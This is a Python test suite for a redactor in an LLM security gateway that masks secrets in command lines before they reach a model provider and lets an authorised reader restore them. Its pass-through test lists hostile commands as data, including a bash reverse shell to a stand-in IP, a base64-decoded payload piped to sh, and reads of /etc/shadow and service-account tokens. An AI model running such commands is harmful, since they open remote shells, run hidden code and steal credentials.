# SPDX-License-Identifier: Apache-2.0
"""Secrets do not leave; what is no secret does; the reader with the right gets them back."""

import time

import httpx
import pytest
from gateway_making import opened, request, settings_for
from gateway_wire import Wire
from hypothesis import given
from hypothesis import strategies as st

from habitus.llm_settings import LlmSettings
from habitus.plugins import PluginFault
from habitus_llm_gateway.faces import application
from habitus_llm_gateway.gateway import Gateway
from habitus_llm_gateway.redaction import Redactor, revealed
from habitus_llm_gateway.vault import Vault

S = "Tr0ub4dor-and-3"
# Made up, of the form that each vendor documents.
SECRETS = [
    (["app", f"--password={S}"], S),
    (["app", "--password", S], S),
    (["app", "--db-password", f"-{S}"], S),
    (["app", f"--api-key={S}"], S),
    (["app", "--token", S], S),
    (["app", f"-Dspring.datasource.password={S}"], S),
    (["sh", "-c", f"PGPASSWORD={S} psql -h db"], S),
    (["sh", "-c", f"export DB_PASS='{S} x'; run"], f"{S} x"),
    (["mysql", "-uroot", f"-p{S}"], S),
    (["sh", "-c", f"mysql -uroot -p{S} shop"], S),
    (["sshpass", "-p", S, "ssh", "h"], S),
    (["redis-cli", "-a", S], S),
    (["curl", "-u", f"bob:{S}", "https://h/"], S),
    (["sh", "-c", f"curl --user bob:{S} https://h/"], S),
    (["curl", "-H", f"Authorization: Bearer {S}"], S),
    (["curl", "-H", "Authorization: Basic Ym9iOnNlY3JldA=="], "Ym9iOnNlY3JldA=="),
    (["curl", "-H", f"X-Api-Key: {S}"], S),
    (["curl", "-H", f"Cookie: session={S}"], S),
    (["psql", f"postgresql://app:{S}@db:5432/shop"], S),
    (["git", "clone", "https://0123456789abcdef0123@git.example/x"], "0123456789abcdef0123"),
    (["app", f"mongodb+srv://u:{S}@c.example/?w=1"], S),
    (["app", f"amqp://:{S}@mq"], S),
    (["app", f"Server=db;User Id=sa;Password={S};"], S),
    (["app", "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abc+def/ghi==;"], "abc+def/ghi=="),
    (["curl", f"https://h/x?a=1&access_token={S}&b=2"], S),
    (["curl", f"https://h/x?sig={S}"], S),
    (["app", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"], "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0"),
    (["app", "AKIA" + "IOSFODNN7EXAMPLE"], "IOSFODNN7EXAMPLE"),
    (["app", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"], "wJalrXUtnFEMI"),
    (["app", "AIza" + "b" * 35], "b" * 35),
    (["app", "ghp_" + "c" * 36], "c" * 36),
    (["app", "glpat-" + "d" * 20], "d" * 20),
    (["app", "xoxb-" + "1" * 12], "1" * 12),
    (["curl", "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXX"], "T00000000"),
    (["app", "sk-ant-" + "e" * 24], "e" * 24),
    (["app", "sk_live_" + "f" * 24], "f" * 24),
    (["app", "npm_" + "g" * 36], "g" * 36),
    (["app", "hvs." + "h" * 24], "h" * 24),
    (["app", "123456789:AA" + "i" * 33], "i" * 33),
    (["sh", "-c", "echo '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----'"], "MIIE"),
    (["app", f'{{"password": "{S}", "user": "bob"}}'], S),
]


@pytest.mark.parametrize(("argv", "secret"), SECRETS, ids=lambda value: str(value)[:40])
def test_a_secret_is_taken_out_and_can_be_put_back(argv, secret):
    redactor = Redactor()
    clean = redactor.redacted(argv)
    assert secret not in " ".join(clean)
    assert "[secret-1:" in " ".join(clean)
    assert [revealed(part, redactor.secrets) for part in clean] == argv


@pytest.mark.parametrize(
    "argv",
    [
        ["java", "-jar", "/app/app.jar", "-Xmx2g"],
        ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        ["cat", "/etc/passwd", "/etc/shadow"],
        ["sh", "-c", "echo aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ== | base64 -d | sh"],
        ["curl", "https://pool.example:3333/x?page=2"],
        ["mysql", "-h", "db", "-P", "3306", "--port=3306"],
        ["passwd", "root"],
        ["app", "--password-file", "/run/secrets/db"],
        ["app", "--password=$DB_PASSWORD"],
        ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
        ["git", "commit", "-m", "rotate the key: done"],
        ["find", "/", "-name", "*.key"],
    ],
)
def test_what_the_model_must_see_stays(argv):
    assert Redactor().redacted(argv) == argv


def test_the_same_secret_has_one_number_in_all_fields():
    redactor = Redactor()
    clean = redactor.redacted(
        {"argv": ["--password", S], "detail": f"password={S}", "env": {"DB_PASSWORD": S}}
    )
    assert (clean["argv"][1], clean["env"]["DB_PASSWORD"]) == ("[secret-1:password]", "[secret-1:password]")
    assert clean["detail"] == "password=[secret-1:password]"
    assert redactor.secrets == {"[secret-1:password]": S}


@given(st.lists(st.text(alphabet="-=:/@ pasword token.Basic\"'_\n", max_size=200), max_size=6))
def test_anything_comes_back_as_it_was(argv):
    redactor = Redactor()
    assert [revealed(part, redactor.secrets) for part in redactor.redacted(argv)] == argv


@pytest.mark.parametrize(
    "unit", ["-", "a.b_c-", "pass_", "password ", "bearer ", "mysql ", "token=", "https://a:"]
)
def test_no_text_takes_more_than_linear_time(unit):
    """Eight times the text: linear forms take eight times as long, a square one 64, the cubic of once 512."""
    short, long = (unit * (size // len(unit)) for size in (4_000, 32_000))
    assert _seconds(long) < 24 * max(_seconds(short), 0.001)


def _seconds(text: str) -> float:
    """Return the processor's time for one text, the least of three."""

    def once() -> float:
        begun = time.process_time()
        Redactor().redacted([text])
        return time.process_time() - begun

    return min(once() for _ in range(3))


async def test_no_secret_reaches_the_provider_and_two_passwords_are_one_question(tmp_path):
    wire = Wire()
    async with wire.serving():
        gateway = opened(settings_for(wire, tmp_path))
        for secret in (S, "another-secret"):
            reply = await gateway.judge(request("psql", f"postgresql://app:{secret}@db/shop"))
            assert (reply.redaction, reply.verdict) == ("", "malicious")
            # What goes into an alert's evidence is what left, and what came.
            assert "secret-1:url-password" in reply.prompt
            assert secret not in reply.prompt
            assert '"verdict":"malicious"' in reply.answer
        await gateway.close()
    assert len(wire.calls) == 1
    assert S not in wire.calls[0].text
    assert "secret-1:url-password" in wire.calls[0].text


async def test_the_reader_with_the_token_reads_them_back(tmp_path):
    token = tmp_path / "reveal"
    token.write_text("a-token-of-the-reader-1")
    wire = Wire()
    async with wire.serving():
        gateway = opened(settings_for(wire, tmp_path, reveal_token_file=token))
        first = await gateway.judge(request("psql", f"postgresql://app:{S}@db/shop"))
        other = await gateway.judge(request("psql", "postgresql://app:other@db/shop"))
        await gateway.close()
    transport = httpx.ASGITransport(application(gateway, lambda: None))
    right = {"authorization": "Bearer a-token-of-the-reader-1"}
    async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as client:

        async def read(redaction, headers):
            body = {
                "redaction": redaction,
                "text": "postgresql://app:[secret-1:url-password]@db [secret-9:x]",
            }
            return await client.post("/v1/reveal", json=body, headers=headers)

        assert (await read(first.redaction, right)).json()["text"] == f"postgresql://app:{S}@db [secret-9:x]"
        assert ":other@" in (await read(other.redaction, right)).text
        assert (await read("nothing", right)).status_code == 404
        for wrong in ({}, {"authorization": "Bearer "}, {"authorization": "Bearer nix"}):
            answer = await read(first.redaction, wrong)
            assert (answer.status_code, S in answer.text) == (403, False)


async def test_without_a_token_nobody_reads_and_nothing_is_kept():
    vault = Vault(None)
    assert vault.keep({"[secret-1:x]": "y"}) == ""
    assert not vault.may_read("")
    assert Gateway.opened(LlmSettings()).vault.read("") is None


def test_a_short_or_absent_token_stops_the_start(tmp_path):
    (tmp_path / "short").write_text("abc")
    for name, says in (("short", "at least 16"), ("absent", "FileNotFoundError")):
        with pytest.raises(PluginFault, match=says):
            Vault.opened(tmp_path / name)
